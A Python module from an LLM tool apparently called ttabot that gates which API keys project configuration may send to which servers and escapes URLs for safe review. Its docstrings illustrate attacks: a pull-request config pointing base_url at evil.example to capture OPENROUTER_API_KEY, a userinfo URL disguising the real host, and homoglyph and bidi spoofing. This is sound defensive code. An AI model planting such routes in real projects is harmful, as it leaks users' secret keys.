"""Key routes: which provider key goes to which server, and which of them need trust.

A *route* is a provider's name, its ``base_url`` and the environment variable its
key is read from. Outside the Action the project's own files (``.ttabot.toml``,
``[tool.ttabot]``) are settings too, and a stranger's pull request can change
them: ``[providers.openrouter] base_url = "https://evil.example/v1"`` would send
``OPENROUTER_API_KEY`` there. So a key route that the project's files chose (one
that differs from the built-in defaults) is used only once the user trusted it
for that repository (``ttabot trust``), like direnv's ``allow``. A provider
without a key sends no secret and needs no trust. Pure decisions only; the trust
file's contents are in ``ttabot.config.trust_file``; reading and writing it, and
the warning, in ``ttabot.commands.trust_guard``.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import NamedTuple
from urllib.parse import urlsplit

from ttabot.config.settings import DEFAULT_PROVIDERS, Provider, Settings
from ttabot.report import printable


class Route(NamedTuple):
    """Where one provider sends the key it reads from ``api_key_env``."""

    provider: str
    #: The provider's ``base_url`` without a trailing slash: any change is a new route.
    base_url: str
    api_key_env: str

    @property
    def host(self) -> str:
        """The host the key goes to (the whole URL when it has none)."""
        return urlsplit(self.base_url).hostname or self.base_url


def route_of(provider: Provider) -> Route | None:
    """``provider``'s key route; None when it names no key (nothing secret is sent)."""
    if not provider.api_key_env:
        return None
    return Route(provider.name, provider.base_url.rstrip("/"), provider.api_key_env)


#: The built-in providers' routes: trusted everywhere.
BUILTIN_ROUTES = frozenset(r for p in DEFAULT_PROVIDERS.values() if (r := route_of(p)) is not None)


def project_routes(settings: Settings) -> tuple[Route, ...]:
    """The key routes of ``settings`` that are not built in, by provider name.

    Meant for settings read from the project's files: these are the routes the
    files chose, and the ones that need the user's trust.
    """
    routes = (route_of(p._replace(name=name)) for name, p in sorted(settings.providers.items()))
    return tuple(r for r in routes if r is not None and r not in BUILTIN_ROUTES)


def blocked_routes(
    routes: Iterable[Route], trusted: frozenset[Route], environ: Mapping[str, str]
) -> tuple[Route, ...]:
    """The ``routes`` that would send a key (its variable is set) and are not ``trusted``."""
    return tuple(r for r in routes if environ.get(r.api_key_env) and r not in trusted)


def without_providers(settings: Settings, names: Iterable[str]) -> Settings:
    """``settings`` with every chain model of the providers ``names`` left out."""
    gone = frozenset(names)
    if not gone:
        return settings
    chains = {
        kind: tuple(ref for ref in refs if ref.partition(":")[0] not in gone)
        for kind, refs in settings.chains.items()
    }
    return settings._replace(chains=chains)


def _escape(char: str) -> str:
    code = ord(char)
    return f"\\u{code:04x}" if code <= 0xFFFF else f"\\U{code:08x}"


def shown(text: str) -> str:
    """``text`` as it is shown for review: every character that prints nothing as an escape.

    The project's files choose a route's every part. Printed raw, a carriage return
    would let a decoy overwrite the real URL on the terminal, an escape sequence or a
    bidi override (a format character) would hide or reorder the rest, and a line
    separator, a no-break or ideographic space or an unassigned code point would
    pass for a gap or for nothing. Letters of any script are kept (a folder may be
    ``/home/josé``); what names a server or a variable goes through :func:`shown_ascii`.
    """
    return "".join(c if c.isprintable() else _escape(c) for c in printable(text))


def shown_ascii(text: str) -> str:
    """``text`` shown with every non-ASCII character as an escape (see :func:`shown`).

    For URLs, hosts and variable names, which are ASCII when honest: a Cyrillic
    ``o`` (U+043E) in ``openrouter.ai`` is another host (httpx sends the key to its IDNA
    name), and printed raw it is a line the eye cannot tell from OpenRouter's own.
    """
    return "".join(c if c.isascii() else _escape(c) for c in shown(text))


def host_note(url: str) -> str:
    """`` (host H)`` when ``url`` names a user, else ``""``.

    Read from the left, ``https://openrouter.ai:443@evil.example/v1`` says
    openrouter.ai; the part before the ``@`` is a user name and a password, and the
    request goes to evil.example.
    """
    try:
        parts = urlsplit(url)
        user, host = parts.username, parts.hostname
    except ValueError:
        return ""
    return f" (host {shown_ascii(host)})" if user and host else ""


def route_line(route: Route, mark: str = "") -> str:
    """``  provider: KEY_VARIABLE -> base_url`` (then ``mark``), shown safely for review."""
    parts = (shown_ascii(route.provider), shown_ascii(route.api_key_env))
    url = shown_ascii(without_password(route.base_url)) + host_note(route.base_url)
    return f"  {parts[0]}: {parts[1]} -> {url}{mark}"


def without_password(url: str) -> str:
    """``url`` with the password of its user part as ``***`` (a user part with no password:
    all of it, since a token is often written there alone), the rest as it is.

    A route is judged by what it sends and to which host; a password in a shown URL
    would reach the terminal, a shared screen or a CI log.
    """
    scheme, sep, rest = url.partition("://")
    ends = [i for i in (rest.find(c) for c in "/?#") if i >= 0]
    authority = rest[: min(ends, default=len(rest))]
    user, at, host = authority.rpartition("@")
    if not sep or not at:
        return url
    name, colon, password = user.partition(":")
    masked = f"{name}:***" if password else user if colon else "***"
    return f"{scheme}://{masked}@{host}{rest[len(authority) :]}"


def blocked_warning(routes: Iterable[Route], where: str) -> str:
    """One line saying which keys ``where`` would send where, and what to run to allow it."""
    sends = ", ".join(
        f"{shown_ascii(r.api_key_env)} to {shown_ascii(r.host)} "
        f"(provider {shown_ascii(r.provider)})"
        for r in sorted(routes)
    )
    return (
        f"ttabot: warning: {shown(where)} sends {sends}; not used until you run "
        "'ttabot trust' in this repository"
    )
